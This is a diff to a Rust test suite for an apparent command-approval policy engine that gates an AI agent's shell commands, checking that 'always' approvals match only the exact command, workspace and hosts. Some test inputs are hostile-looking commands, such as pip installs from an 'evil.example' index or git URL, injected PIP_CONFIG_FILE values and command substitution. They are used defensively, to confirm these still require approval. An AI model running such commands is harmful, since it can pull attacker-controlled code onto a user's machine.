@@ -1,7 +1,8 @@
 use super::*;
 use crate::classify::{Classifier, EXAMPLE_CWD, Env};
-use airlock_protocol::Decision;
-use std::path::PathBuf;
+use crate::settings::GuardedAlways;
+use airlock_protocol::{ActionClass, Decision};
+use std::path::{Path, PathBuf};
 
 fn shipped() -> Policy {
     Policy::load(&[crate::home::default_policy_dir()]).unwrap()
@@ -48,7 +49,7 @@ fn an_allow_rule_cannot_loosen_an_explicit_rule() {
     let policy = policy_from(
         r#"
 [[baseline]]
-class = "shell.exec"
+class = "build"
 decision = "allow"
 justification = "b"
 
@@ -56,7 +57,7 @@ justification = "b"
 id = "ask.deploy"
 decision = "ask"
 justification = "deploys need a human"
-commands = ["./deploy.sh"]
+commands = ["cargo xtask deploy"]
 
 [[rule]]
 id = "allow.everything"
@@ -65,7 +66,7 @@ justification = "too broad"
 classes = ["*"]
 "#,
     );
-    let e = decide(&policy, "./deploy.sh prod");
+    let e = decide(&policy, "cargo xtask deploy prod");
     assert_eq!(e.decision, Decision::Ask);
     assert_eq!(e.rule_ids(), vec!["ask.deploy".to_string()]);
     assert!(!e.loosenable());
@@ -145,65 +146,377 @@ fn an_empty_shipped_directory_is_refused() {
     assert!(matches!(err, PolicyError::Empty(_)), "{err}");
 }
 
-#[test]
-fn always_rules_are_narrow_and_check_themselves() {
-    let policy = shipped();
-    let classifier = Classifier::new(Env::example()).unwrap();
-    let request = ActionRequest::shell(
-        "claude-code",
-        PathBuf::from(EXAMPLE_CWD),
-        "curl -s https://api.example.com/v1",
-    );
-    let classification = classifier.classify(&request);
-    let evaluation = policy.evaluate(&request, &classification);
-    let rules = amend::rules_for(&request, &classification, &evaluation, "note").unwrap();
-    assert_eq!(rules.len(), 1);
-    let rule = &rules[0];
-    assert_eq!(rule.decision, Decision::Allow);
-    assert_eq!(rule.classes, vec!["network.fetch".to_string()]);
-    assert_eq!(
-        rule.commands,
-        vec!["curl -s https://api.example.com/v1".to_string()]
-    );
-    assert_eq!(rule.hosts, vec!["api.example.com".to_string()]);
-    assert!(rule.id.starts_with("always."));
+/// A workspace on disk (a directory with `.git`), so the classifier finds its root.
+fn workspace(parent: &Path, name: &str) -> PathBuf {
+    let dir = parent.join(name);
+    std::fs::create_dir_all(dir.join(".git")).unwrap();
+    dir
+}
 
-    let dir = tempfile::tempdir().unwrap();
-    let (path, added, _) = amend::append(dir.path(), rules.clone()).unwrap();
-    assert_eq!(added.len(), 1);
-    let (_, again, _) = amend::append(dir.path(), rules).unwrap();
-    assert!(again.is_empty(), "deduplicated");
-    let amended =
-        Policy::load(&[crate::home::default_policy_dir(), dir.path().to_path_buf()]).unwrap();
-    assert_eq!(
-        amended.evaluate(&request, &classification).decision,
-        Decision::Allow
-    );
-    // Narrow: another host, or more arguments that add a class, still ask.
-    assert_eq!(
-        decide(&amended, "curl -s https://other.example.com/v1").decision,
-        Decision::Ask
-    );
-    assert!(std::fs::read_to_string(path).unwrap().contains("[[rule]]"));
+fn held(command: &str, cwd: &Path) -> (ActionRequest, Classification) {
+    let classifier = Classifier::new(Env::example()).unwrap();
+    let mut request = ActionRequest::shell("claude-code", cwd.to_path_buf(), command);
+    request.session = Some("s1".into());
+    let classification = classifier.classify(&request);
+    (request, classification)
+}
+
+/// The shipped policy plus the "always" entries for approving `command` run in `cwd`.
+fn approved_always(command: &str, cwd: &Path, user_dir: &Path) -> Policy {
+    let policy = shipped();
+    let (request, classification) = held(command, cwd);
+    let evaluation = policy.evaluate(&request, &classification);
+    let entries = amend::entries_for(&request, &classification, &evaluation, "note").unwrap();
+    amend::append(user_dir, entries).unwrap();
+    Policy::load(&[crate::home::default_policy_dir(), user_dir.to_path_buf()]).unwrap()
+}
+
+fn decide_in(policy: &Policy, command: &str, cwd: &Path) -> Decision {
+    let (request, classification) = held(command, cwd);
+    policy.evaluate(&request, &classification).decision
 }
 
 #[test]
-fn glob_characters_in_always_rules_are_literal() {
+fn always_entries_hold_the_exact_argv_workspace_and_asking_classes() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
     let policy = shipped();
-    let classifier = Classifier::new(Env::example()).unwrap();
-    let request = ActionRequest::shell(
-        "claude-code",
-        PathBuf::from(EXAMPLE_CWD),
-        "curl 'https://x.example.com/a?b=*'",
-    );
-    let classification = classifier.classify(&request);
+    let (request, classification) = held("pip install requests", &project);
     let evaluation = policy.evaluate(&request, &classification);
-    let rules = amend::rules_for(&request, &classification, &evaluation, "n").unwrap();
-    assert!(
-        rules[0].commands[0].contains("\\*"),
-        "{:?}",
-        rules[0].commands
+    let entries = amend::entries_for(&request, &classification, &evaluation, "note").unwrap();
+    let id = entries[0].id.clone();
+    assert!(id.starts_with("always."), "{id}");
+    assert_eq!(
+        entries,
+        vec![file::AlwaysSpec {
+            id,
+            justification: "note".into(),
+            tool: "Bash".into(),
+            classes: vec![ActionClass::NetworkFetch, ActionClass::ExecRemote],
+            workspace: project.display().to_string(),
+            argv: vec!["pip".into(), "install".into(), "requests".into()],
+            env: Vec::new(),
+            paths: Vec::new(),
+            hosts: Vec::new(),
+        }]
     );
+    let user = dir.path().join("policies");
+    let (path, added, _) = amend::append(&user, entries.clone()).unwrap();
+    assert_eq!(added.len(), 1);
+    let (_, again, _) = amend::append(&user, entries).unwrap();
+    assert!(again.is_empty(), "deduplicated");
+    let text = std::fs::read_to_string(path).unwrap();
+    assert!(text.contains("[[always]]"), "{text}");
+    assert!(
+        text.contains(r#"argv = ["pip", "install", "requests"]"#),
+        "{text}"
+    );
+}
+
+#[test]
+fn always_allows_the_exact_command_and_nothing_that_merely_starts_like_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let policy = approved_always("pip install requests", &project, &dir.path().join("p"));
+    assert_eq!(
+        decide_in(&policy, "pip install requests", &project),
+        Decision::Allow
+    );
+    for wider in [
+        "pip install requests --index-url https://evil.example/simple",
+        "pip install requests -e git+https://evil.example/pkg.git",
+        "pip install requests urllib3",
+        "PIP_INDEX_URL=https://evil.example/simple pip install requests",
+        "PIP_CONFIG_FILE=/tmp/evil.conf pip install requests",
+        "env PIP_CONFIG_FILE=/tmp/evil.conf pip install requests",
+        "PIP_CONFIG_FILE=$(cat conf) pip install requests",
+        "pip install requests $MORE",
+        "sudo pip install requests",
+    ] {
+        assert_eq!(
+            decide_in(&policy, wider, &project),
+            Decision::Ask,
+            "{wider}"
+        );
+    }
+}
+
+#[test]
+fn wrapper_forms_normalise_to_the_same_argv() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let policy = approved_always("pip install requests", &project, &dir.path().join("p"));
+    for same in [
+        "/usr/bin/pip install requests",
+        "env pip install requests",
+        "command pip install requests",
+        "timeout 60 pip install requests",
+        "bash -c 'pip install requests'",
+        "git status && pip install requests",
+    ] {
+        assert_eq!(
+            decide_in(&policy, same, &project),
+            Decision::Allow,
+            "{same}"
+        );
+    }
+}
+
+#[test]
+fn always_holds_only_in_the_workspace_it_was_approved_in() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let other = workspace(dir.path(), "other");
+    let sub = project.join("src");
+    std::fs::create_dir_all(&sub).unwrap();
+    let policy = approved_always("pip install requests", &project, &dir.path().join("p"));
+    assert_eq!(
+        decide_in(&policy, "pip install requests", &sub),
+        Decision::Allow,
+        "a directory inside the same workspace"
+    );
+    assert_eq!(
+        decide_in(&policy, "pip install requests", &other),
+        Decision::Ask
+    );
+    let into_other = format!("cd {} && pip install requests", other.display());
+    assert_eq!(decide_in(&policy, &into_other, &project), Decision::Ask);
+    assert_eq!(
+        decide_in(&policy, "cd \"$DIR\" && pip install requests", &project),
+        Decision::Ask,
+        "a directory only known at run time"
+    );
+}
+
+#[test]
+fn always_holds_only_for_the_hosts_it_was_approved_for() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let user = dir.path().join("p");
+    let command = "curl -s https://api.example.com/v1";
+    let policy = approved_always(command, &project, &user);
+    assert_eq!(decide_in(&policy, command, &project), Decision::Allow);
+    assert_eq!(
+        decide_in(&policy, "curl -s https://other.example.com/v1", &project),
+        Decision::Ask
+    );
+    // The host set is compared exactly: an entry edited to name another host no longer
+    // matches the command it was written for, and one that names no host matches nothing
+    // that reaches one.
+    let file = user.join(amend::ALWAYS_FILE);
+    let text = std::fs::read_to_string(&file).unwrap();
+    for hosts in [r#"hosts = ["other.example.com"]"#, ""] {
+        let edited = text.replace(r#"hosts = ["api.example.com"]"#, hosts);
+        assert_ne!(edited, text);
+        std::fs::write(&file, edited).unwrap();
+        let policy = Policy::load(&[crate::home::default_policy_dir(), user.clone()]).unwrap();
+        assert_eq!(
+            decide_in(&policy, command, &project),
+            Decision::Ask,
+            "{hosts}"
+        );
+    }
+}
+
+#[test]
+fn always_is_refused_for_commands_computed_at_run_time() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let policy = shipped();
+    for command in [
+        "pip install requests $MORE",
+        "PIP_CONFIG_FILE=$(cat conf) pip install requests",
+        "curl -s \"$URL\"",
+    ] {
+        let (request, classification) = held(command, &project);
+        let evaluation = policy.evaluate(&request, &classification);
+        let err = amend::entries_for(&request, &classification, &evaluation, "n").unwrap_err();
+        assert!(
+            matches!(err, amend::AmendError::NotNarrow(_)),
+            "{command}: {err}"
+        );
+    }
+}
+
+#[test]
+fn always_is_refused_for_a_command_holding_a_secret() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let policy = shipped();
+    for command in [
+        "curl -s -H 'Authorization: Bearer abcdef123456' https://api.example.com/v1",
+        "API_TOKEN=abcdef123456 curl -s https://api.example.com/v1",
+    ] {
+        let (request, classification) = held(command, &project);
+        let evaluation = policy.evaluate(&request, &classification);
+        let err = amend::entries_for(&request, &classification, &evaluation, "n")
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("looks like a secret") && !err.contains("abcdef123456"),
+            "{command}: {err}"
+        );
+    }
+}
+
+#[test]
+fn glob_characters_in_always_entries_are_literal() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let policy = approved_always(
+        "curl 'https://x.example.com/a?b=*'",
+        &project,
+        &dir.path().join("p"),
+    );
+    assert_eq!(
+        decide_in(&policy, "curl 'https://x.example.com/a?b=*'", &project),
+        Decision::Allow
+    );
+    assert_eq!(
+        decide_in(&policy, "curl 'https://x.example.com/a?b=secret'", &project),
+        Decision::Ask
+    );
+}
+
+#[test]
+fn an_old_prefix_amendment_is_refused_at_load_naming_its_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let user = dir.path().join("policies");
+    std::fs::create_dir_all(&user).unwrap();
+    std::fs::write(
+        user.join(amend::ALWAYS_FILE),
+        r#"
+[[rule]]
+id = "always.0123456789ab"
+decision = "allow"
+justification = "Always allowed from Airlock request r1 on 2026-01-01."
+classes = ["network.fetch", "exec.remote"]
+tools = ["Bash"]
+commands = ["pip install requests"]
+"#,
+    )
+    .unwrap();
+    let err = Policy::load(&[crate::home::default_policy_dir(), user.clone()])
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.contains(&user.join(amend::ALWAYS_FILE).display().to_string())
+            && err.contains("`always.0123456789ab`")
+            && err.contains("word prefix")
+            && err.contains("approve the action again"),
+        "{err}"
+    );
+}
+
+#[test]
+fn an_always_entry_with_a_relative_workspace_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("p.toml"),
+        r#"
+[[baseline]]
+class = "read"
+decision = "allow"
+justification = "j"
+
+[[always]]
+id = "always.x"
+justification = "j"
+tool = "Bash"
+classes = ["network.fetch"]
+workspace = "project"
+argv = ["curl", "https://example.com"]
+"#,
+    )
+    .unwrap();
+    let err = Policy::load(&[dir.path().to_path_buf()])
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.contains("always entry `always.x`") && err.contains("`workspace` `project`"),
+        "{err}"
+    );
+}
+
+fn offered(command: &str, cwd: &Path, guarded: GuardedAlways) -> scopes::Offered {
+    let policy = shipped();
+    let (request, classification) = held(command, cwd);
+    let evaluation = policy.evaluate(&request, &classification);
+    let held = scopes::Held {
+        request: &request,
+        classification: &classification,
+        evaluation: &evaluation,
+    };
+    let settings = scopes::AlwaysSettings {
+        guarded,
+        loosening_needs_key: false,
+    };
+    scopes::offered(&held, &policy, settings)
+}
+
+#[test]
+fn always_is_not_offered_for_guarded_classes_unless_settings_ask_for_a_key() {
+    use airlock_protocol::ApprovalScope::{Always, Once, Session};
+    let dir = tempfile::tempdir().unwrap();
+    let project = workspace(dir.path(), "project");
+    let routine = offered("pip install requests", &project, GuardedAlways::Refuse);
+    assert_eq!(routine.scopes, vec![Once, Session, Always]);
+    assert!(routine.key_scopes.is_empty() && routine.always_note.is_none());
+
+    for (command, class) in [
+        ("git push origin main", "remote.write"),
+        ("npm publish", "prod.write"),
+        ("gh issue comment 1 --body hi", "external.comm"),
+    ] {
+        let push = offered(command, &project, GuardedAlways::Refuse);
+        assert_eq!(push.scopes, vec![Once, Session], "{command}");
+        let note = push.always_note.unwrap();
+        assert!(
+            note.contains(&format!("`{class}`")) && note.contains("--scope session"),
+            "{command}: {note}"
+        );
+        let with_key = offered(command, &project, GuardedAlways::WithKey);
+        assert_eq!(with_key.scopes, vec![Once, Session, Always], "{command}");
+        assert_eq!(with_key.key_scopes, vec![Always], "{command}");
+    }
+}
+
+#[test]
+fn a_class_whose_baseline_is_step_up_is_guarded_too() {
+    let dir = tempfile::tempdir().unwrap();
+    let user = dir.path().join("policies");
+    std::fs::create_dir_all(&user).unwrap();
+    // A user policy that makes `network.fetch` step-up by baseline but asks for one host.
+    std::fs::write(
+        user.join("mine.toml"),
+        r#"
+[[baseline]]
+class = "network.fetch"
+decision = "step-up"
+justification = "every fetch needs a key here"
+"#,
+    )
+    .unwrap();
+    let policy = Policy::load(&[crate::home::default_policy_dir(), user]).unwrap();
+    let project = workspace(dir.path(), "project");
+    let (request, classification) = held("curl -s https://api.example.com/v1", &project);
+    let mut evaluation = policy.evaluate(&request, &classification);
+    // As if a rule had lowered this request to `ask`: the class is still step-up by baseline.
+    evaluation.decision = Decision::Ask;
+    for d in &mut evaluation.details {
+        d.decision = Decision::Ask;
+    }
+    let held = scopes::Held {
+        request: &request,
+        classification: &classification,
+        evaluation: &evaluation,
+    };
+    let settings = scopes::AlwaysSettings {
+        guarded: GuardedAlways::Refuse,
+        loosening_needs_key: false,
+    };
+    let refused = scopes::always(&held, &policy, settings).unwrap_err();
+    assert_eq!(refused.classes(), [ActionClass::NetworkFetch]);
 }
 
 #[test]
